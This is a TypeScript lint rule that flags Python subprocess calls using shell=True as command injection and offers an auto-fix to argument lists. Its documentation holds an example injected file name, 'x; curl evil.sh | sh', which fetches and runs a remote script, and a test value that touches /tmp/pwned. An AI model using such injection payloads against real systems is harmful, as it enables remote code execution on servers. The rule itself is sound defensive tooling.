// subprocess-shell-true: subprocess calls that hand their command to /bin/sh (Bandit B602, Ruff S602).
import type { Node } from '../../src/analysis/syntax-node.js';
import { defineRule, type Fix, type RuleContext } from '../../src/analysis/rule.js';
import type { CallInfo } from '../../src/analysis/python/call-name.js';
import { pyStringLiteral, removeArgument, replaceNode, splitPlainCommand } from '../../src/analysis/python/fixes.js';

const SUBPROCESS_FNS = [
  'subprocess.run',
  'subprocess.call',
  'subprocess.check_call',
  'subprocess.check_output',
  'subprocess.Popen',
];

export default defineRule({
  meta: {
    id: 'subprocess-shell-true',
    title: 'subprocess call with shell=True',
    category: 'command-injection',
    cwe: ['CWE-78'],
    owasp: { '2021': ['A03:2021'], '2025': ['A05:2025'] },
    severity: 'medium',
    riskScore: 6,
    confidence: 'high',
    threat: 'integrity',
    timeline: 'immediate',
    aliases: { bandit: ['B602'], ruff: ['S602'] },
    fixable: true,
    messages: {
      dynamic: '`{{fn}}` runs a computed command through a shell; interpolated input can inject commands.',
      literal: '`{{fn}}` uses shell=True with a constant command; prefer an argument list.',
    },
    docs: {
      whatItDoes: 'Flags `subprocess` calls whose `shell` argument is true.',
      whyBad:
        'With `shell=True` the command string is parsed by `/bin/sh`, so quotes, `;`, `|`, `$()` and backticks in any interpolated value run as commands.',
      businessImpact:
        'Remote code execution on the server: data theft, tampering and lateral movement with the privileges of the process.',
      attackScenario:
        'A user uploads a file named `x; curl evil.sh | sh`; the app runs `subprocess.run(f"convert {name} out.png", shell=True)` and the attacker\'s script runs on the server.',
      example: 'subprocess.run(f"tar xf {name}", shell=True)',
      useInstead: 'subprocess.run(["tar", "xf", name], check=True)',
      testing: 'Call the code path with a value containing `; touch /tmp/pwned` and assert the file is not created.',
      knownProblems: 'A constant command is still reported (low): later edits tend to interpolate into it.',
      references: [
        'https://docs.python.org/3/library/subprocess.html#security-considerations',
        'https://cwe.mitre.org/data/definitions/78.html',
        'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
      ],
    },
  },
  hints: ['Popen', 'check_call', 'check_output', 'subprocess'],
  create(ctx) {
    const check = (call: CallInfo) => {
      const shell = call.kwarg('shell');
      if (!shell || ctx.truthiness(shell) === false) return;
      const command = call.argOrKwarg(0, 'args');
      const literal = command !== undefined && ctx.staticString(command) !== undefined;
      const fix = literal && command ? argvFix(ctx, command, shell) : undefined;
      ctx.report({
        node: call.node,
        messageId: literal ? 'literal' : 'dynamic',
        data: { fn: call.name ?? 'subprocess' },
        severity: literal ? 'low' : 'high',
        ...(fix ? { fix } : {}),
      });
    };
    return { calls: Object.fromEntries(SUBPROCESS_FNS.map((fn) => [fn, check])) };
  },
});

/** `run("ls -l", shell=True)` → `run(["ls", "-l"])` when the constant command uses no shell syntax. */
function argvFix(ctx: RuleContext, command: Node, shell: Node): Fix | undefined {
  const argv = splitPlainCommand(ctx.staticString(command) ?? '');
  if (!argv) return undefined;
  return {
    description: 'Pass the command as an argument list and drop shell=True.',
    edits: [replaceNode(command, `[${argv.map(pyStringLiteral).join(', ')}]`), removeArgument(shell, ctx.source)],
  };
}
